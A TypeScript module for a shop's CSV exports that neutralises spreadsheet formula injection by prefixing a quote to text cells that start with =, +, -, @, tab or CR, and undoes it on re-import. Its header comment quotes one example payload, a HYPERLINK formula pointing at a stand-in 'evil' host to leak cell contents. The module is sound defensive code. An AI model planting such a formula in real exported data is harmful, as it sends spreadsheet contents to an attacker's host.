/**
 * CSV injection (OWASP «CSV Injection»): a spreadsheet opening a CSV file reads a cell that starts with
 * `=`, `+`, `-` or `@` as a formula, and a TAB or CR in front can hide the same from a filter. A guest's
 * name such as `=HYPERLINK("http://evil…"&A1)` would land in the manager's spreadsheet as a live
 * formula. Every CSV the shop writes passes its text cells through `neutraliseCsvCell`, which puts a
 * single quote in front of such a cell so the spreadsheet shows it as text.
 *
 * Numbers the shop itself writes (amounts, stock, ids) are typed numbers, not text, and stay numbers:
 * a negative amount is `-500`, never a formula, so only strings are neutralised.
 */
const FORMULA_TRIGGERS: ReadonlySet<string> = new Set(['=', '+', '-', '@', '\t', '\r']);

/** True when a spreadsheet would read `text` as the start of a formula. */
export function startsLikeFormula(text: string): boolean {
  return text.length > 0 && FORMULA_TRIGGERS.has(text.charAt(0));
}

/**
 * Whether the cell gets a quote in front: it starts like a formula, or it is quotes followed by such a
 * start (`'=1`), so that `restoreCsvCell` can tell the shop's quote from one the text had.
 */
function needsQuote(text: string): boolean {
  let at = 0;
  while (text.charAt(at) === "'") at += 1;
  return startsLikeFormula(text.slice(at));
}

/** The text as a CSV cell a spreadsheet shows as text: `'` in front when it starts like a formula. */
export function neutraliseCsvCell(text: string): string {
  return needsQuote(text) ? `'${text}` : text;
}

/**
 * The inverse for a file the shop exported and gets back as an import: the leading `'` that
 * `neutraliseCsvCell` put in front is dropped, so an export → import round trip keeps every value as it
 * was. Any other text is kept as it is.
 */
export function restoreCsvCell(text: string): string {
  return text.startsWith("'") && needsQuote(text.slice(1)) ? text.slice(1) : text;
}

/**
 * The options of every CSV the shop writes (csv-stringify): `;` between cells (what a Russian Excel
 * expects), a BOM so Excel reads UTF-8, and each text cell neutralised. Numbers keep csv-stringify's
 * own cast (a plain decimal).
 */
export const SHOP_CSV_OPTIONS = {
  delimiter: ';',
  bom: true,
  cast: { string: neutraliseCsvCell },
} as const;
